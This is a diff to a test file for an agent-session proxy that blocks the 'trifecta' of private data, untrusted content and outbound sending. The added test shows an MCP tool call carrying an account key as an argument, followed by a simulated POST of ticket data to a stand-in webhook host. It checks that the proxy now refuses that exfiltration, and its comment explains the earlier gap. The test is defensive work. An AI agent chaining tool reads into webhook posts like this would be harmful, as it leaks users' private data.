@@ -710,8 +710,8 @@ t.test('a stream is cut when a label arrived while its session was read, or its 
 t.test('a WebSocket whose own answer completes the trifecta is decided as the trifecta', async (t) => {
   const web = await startWeb(t);
   const home = tempDir(t, 'al-ws-trifecta-');
-  const config = { ...testConfig.config, trifecta: { mode: 'deny' } };
-  const airlock = await startSessionAirlock(t, home, policyCopy(t, { config }), web);
+  const config = { ...testConfig.config, trifecta: { mode: 'deny' }, mcp_servers: { 'mcp.test': { read_only_tools: ['search_tickets'] } } };
+  const airlock = await startSessionAirlock(t, home, policyCopy(t, { config }), web, { resolve: [...webHosts, 'mcp.test'].map((h) => `${h}=127.0.0.1`) });
   const api = await studioApi(airlock, home);
   const agent = await airlock.agents.add('bot');
   t.equal(await viaNode(airlock.proxyUrl('bot', agent.token), 'GET', `${web.origin('db.test')}/customers/1`), 200, 'the session reads private data');
@@ -773,6 +773,25 @@ t.test('a WebSocket whose own answer completes the trifecta is decided as the tr
   const plainOpen = opened('plain', plain.token, ['v4.channel.k8s.io']);
   await approveFor('plain');
   t.equal(await plainOpen, 'open', 'control: a socket without a credential opens once approved');
+
+  // (Twenty-seventh pass) An MCP server that takes the account's key as a tool argument
+  // (`arguments: {api_key: …}`, or `{auth: {token: …}}`) answers as that account; the key sat below
+  // the two levels of the body read for credentials, so a read-only tool's tickets came in
+  // `untrusted` only and the next POST to the webhook carried them out. Now `private` too: the
+  // trifecta at once (denied here).
+  const mcpAgent = await airlock.agents.add('tickets');
+  const mcpProxy = airlock.proxyUrl('tickets', mcpAgent.token);
+  const call = (args: unknown) => JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_tickets', arguments: args } });
+  t.equal((await viaCurl(mcpProxy, 'POST', `${web.origin('mcp.test')}/mcp`, call({ api_key: 'tk_live_abcdefgh12345678', query: 'open' }))).status, 200, 'the read-only tool is answered');
+  t.equal((await viaCurl(mcpProxy, 'POST', `${web.origin('hooks.test')}/send`, '{"tickets":"Ada 4242"}')).status, 403, 'the POST after it is refused (the trifecta)');
+  t.notOk(web.hits.some((h) => h.host === 'hooks.test'), 'nothing reached the webhook');
+  const mcpDecision = (args: unknown) => airlock.engine.decide(describeRequest({ method: 'POST', url: 'http://mcp.test/mcp', headers: [['content-type', 'application/json']], body: Buffer.from(call(args)), bodyTruncated: false }, { agent: { id: 'prop', labels: {} } }));
+  const keyName = fc.constantFrom('api_key', 'apiKey', 'access_token', 'accessToken', 'token', 'auth', 'password', 'client_secret', 'authToken', 'private_token');
+  await fc.assert(fc.asyncProperty(keyName, fc.stringMatching(/^[A-Za-z0-9_]{8,24}$/), fc.constantFrom('top', 'nested'), fc.subarray([['query', 'open'], ['limit', 5], ['project', 'web']] as Array<[string, unknown]>), async (name, v, where, others) => {
+    const args = { ...Object.fromEntries(others), ...(where === 'top' ? { [name]: v } : { credentials: { [name]: v } }) };
+    t.ok((await mcpDecision(args)).labels?.includes('private'), `${where} ${name}: the tool answers as the account`);
+  }), { numRuns: 20 });
+  t.notOk((await mcpDecision({ query: 'token limits', page: 2 })).labels?.includes('private'), 'control: a call without a key is a page\'s answer');
 });
 
 // The same for an upload: decided in a session that had read private data, to a page that answers
